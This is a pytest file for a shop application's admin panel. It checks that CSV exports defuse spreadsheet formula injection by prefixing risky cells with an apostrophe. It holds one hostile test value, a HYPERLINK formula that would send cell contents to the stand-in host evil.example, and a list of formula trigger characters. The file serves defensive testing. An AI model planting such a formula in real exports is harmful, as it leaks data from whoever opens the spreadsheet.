"""Issue 18 item 8: no admin CSV export carries a live spreadsheet formula."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
from fastapi import FastAPI
from sqladmin import ModelView
from sqlalchemy import update

from shopkeeper.accounts.models import User
from shopkeeper.core.runtime import Runtime
from shopkeeper.shop.admin.export import SafeExportView, neutralise
from tests.shop.admin.test_admin import STAFF_PASSWORD, add_user, admin_login, make_staff

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_triggers_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("plain") == "plain"


async def test_user_export_neutralises_a_formula_name(
    client: httpx.AsyncClient, runtime: Runtime
) -> None:
    email = await add_user(runtime, staff=False)
    async with runtime.db.session() as session:
        await session.execute(update(User).where(User.email == email).values(full_name=HOSTILE))
        await session.commit()
    await admin_login(client, await make_staff(runtime), STAFF_PASSWORD)
    export = await client.get("/admin/user/export/csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]


def test_every_admin_view_exports_safely(app: FastAPI) -> None:
    """Every table view exports through `SafeExportView`; the shop's pages export nothing."""
    admin = app.state.admin
    table_views = [view for view in admin.views if isinstance(view, ModelView)]
    assert table_views
    assert [view for view in table_views if not isinstance(view, SafeExportView)] == []
